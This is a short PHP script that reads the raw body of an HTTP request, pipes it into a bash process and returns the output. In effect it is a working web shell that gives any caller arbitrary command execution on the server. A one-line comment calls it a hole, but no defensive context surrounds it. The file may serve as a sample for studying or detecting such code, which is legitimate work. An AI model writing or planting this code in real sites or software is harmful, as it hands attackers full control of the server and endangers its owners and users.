<?php
// Hands what it is sent to a shell, which is a hole.
$shell = proc_open(["bash", "-e"], [["pipe", "r"], ["pipe", "w"], ["redirect", 1]], $pipes);
fwrite($pipes[0], file_get_contents("php://input"));
fclose($pipes[0]);
echo stream_get_contents($pipes[1]);
